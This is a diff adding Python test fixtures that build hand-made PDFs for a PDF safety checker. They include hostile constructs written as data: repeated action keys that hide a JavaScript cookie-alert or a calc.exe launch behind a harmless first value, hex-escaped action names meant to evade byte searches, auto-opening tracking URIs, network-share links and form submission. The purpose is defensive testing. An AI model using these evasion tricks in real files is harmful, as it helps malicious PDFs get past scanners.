@@ -250,6 +250,131 @@ def pdf_with_many_outline_items(count: int) -> bytes:
     return _uncompressed(writer)
 
 
+# --- Handmade PDFs: what no library writes (repeated keys, escaped names, orphan objects) ----
+
+PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]%s >>"
+
+
+def handmade_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
+    """A classic PDF from its objects' source, with a correct cross-reference table.
+
+    Object 1 is usually the catalogue, 2 the page tree, 3 the page (``PAGE``)."""
+    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
+    size = max(objects) + 1
+    start = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+    for number in range(1, size):
+        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
+    return out + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start)
+
+
+def one_page_pdf(catalogue: bytes = b"", page: bytes = b"", **extra: bytes) -> bytes:
+    """A one-page handmade PDF: ``catalogue`` and ``page`` are added to those dictionaries,
+    ``extra`` (``o4=b"<< … >>"``) are objects 4, 5… referenced from them."""
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalogue,
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: PAGE % page,
+    }
+    objects.update({int(name[1:]): source for name, source in extra.items()})
+    return handmade_pdf(objects)
+
+
+ESCAPED_JAVASCRIPT = b"<< /S /J#61vaScript /J#53 (app.alert\\(document.cookie\\)) >>"
+ESCAPED_LAUNCH = b"<< /S /L#61unch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"
+LINK = b" /Annots [<< /Type /Annot /Subtype /Link /Rect [50 50 200 70] /Border [0 0 0] %s >>]"
+
+
+def pdf_with_repeated_action_key(case: str) -> bytes:
+    """A dictionary that writes an action key twice, a harmless value first: pypdf keeps
+    the first, some readers act on the last. The hostile names are hex-escaped so that no
+    byte search sees them."""
+    if case == "open-action":  # the catalogue's /OpenAction: a GoTo, then a script
+        return one_page_pdf(
+            catalogue=b" /OpenAction 4 0 R /OpenAction 5 0 R",
+            o4=b"<< /S /GoTo /D [3 0 R /Fit] >>",
+            o5=ESCAPED_JAVASCRIPT,
+        )
+    if case == "action-type":  # a link's action: /S /URI, then /S /Launch
+        action = b"/A << /S /URI /URI (https://quartierscafes.org/) /S /L#61unch /F (calc.exe) >>"
+        return one_page_pdf(page=LINK % action)
+    if case == "annotation-action":  # a link's /A: a web address, then a launch action
+        return one_page_pdf(
+            page=LINK % b"/A << /S /URI /URI (https://quartierscafes.org/) >> /A 4 0 R", o4=ESCAPED_LAUNCH
+        )
+    if case == "page-additional-actions":  # a page's /AA: empty, then a script on opening
+        return one_page_pdf(page=b" /AA << >> /AA << /O 4 0 R >>", o4=ESCAPED_JAVASCRIPT)
+    raise ValueError(case)
+
+
+#: Actions that reach outside the document, each in the place a reader would act on it.
+OUTWARD_ACTIONS = {
+    "open-action-uri": dict(catalogue=b" /OpenAction << /S /URI /URI (https://example.org/suivi?lu=1) >>"),
+    "page-open-uri": dict(page=b" /AA << /O << /S /URI /URI (https://example.org/suivi) >> >>"),
+    "annotation-mouse-over-uri": dict(
+        page=LINK % b"/AA << /E << /S /URI /URI (https://example.org/suivi) >> >>",
+    ),
+    "chained-after-open-uri": dict(
+        catalogue=b" /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://example.org/) >> >>"
+    ),
+    "link-gotor-network-share": dict(
+        page=LINK % b"/A << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\piege.pdf) /D [0 /Fit] >>"
+    ),
+    "link-gotoe": dict(page=LINK % b"/A << /S /GoToE /F (autre.pdf) /D [0 /Fit] /T << /R /C /N (piece) >> >>"),
+    "link-submitform": dict(page=LINK % b"/A << /S /SubmitForm /F << /FS /URL /F (https://example.org/collecte) >> >>"),
+    "link-importdata": dict(page=LINK % b"/A << /S /ImportData /F (donnees.fdf) >>"),
+    "thread-in-another-file": dict(page=LINK % b"/A << /S /Thread /F (autre.pdf) /D 0 >>"),
+    "rich-media-annotation": dict(
+        page=b" /Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << >> >>]"
+    ),
+    "structure-element-annotation": dict(
+        # An annotation no page lists, reached through the structure tree (an OBJR).
+        catalogue=b" /StructTreeRoot << /Type /StructTreeRoot"
+        b" /K << /S /Document /K [<< /Type /OBJR /Obj 4 0 R >>] >> >>",
+        o4=b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + ESCAPED_LAUNCH + b" >>",
+    ),
+}
+
+
+def pdf_with_outward_action(case: str) -> bytes:
+    return one_page_pdf(**OUTWARD_ACTIONS[case])
+
+
+def pdf_with_clicked_links() -> bytes:
+    """What an exported Word document holds: a web link the reader clicks, a bookmark to a
+    web page, a link inside the document, a tagged structure."""
+    link = LINK % b"/A << /S /URI /URI (https://quartierscafes.org/candidater) >>"
+    return one_page_pdf(
+        catalogue=(
+            b" /Outlines << /Type /Outlines /First 4 0 R /Last 4 0 R /Count 1 >>"
+            b" /StructTreeRoot << /Type /StructTreeRoot /K << /S /Document /K [<< /S /P /K 0 /Pg 3 0 R >>] >> >>"
+        ),
+        page=link,
+        o4=b"<< /Title (Site du programme) /Parent 1 0 R /A << /S /URI /URI (https://quartierscafes.org/) >> >>",
+    )
+
+
+def pdf_with_many_bookmarks(count: int) -> bytes:
+    """``count`` bookmarks, written by hand (pypdf's writer takes minutes for 100 000): the
+    cheapest way to make a PDF checker parse many objects."""
+    first = 4
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /Outlines << /First %d 0 R /Last %d 0 R /Count %d >> >>"
+        % (first, first + count - 1, count),
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: PAGE % b"",
+    }
+    for index in range(count):
+        number = first + index
+        following = b" /Next %d 0 R" % (number + 1) if index < count - 1 else b""
+        objects[number] = b"<< /Title (Rep\\350re %d) /Dest [3 0 R /Fit]%s >>" % (index, following)
+    return handmade_pdf(objects)
+
+
 #: The EICAR test file: harmless, and detected by every antivirus as if it were a virus.
 EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 
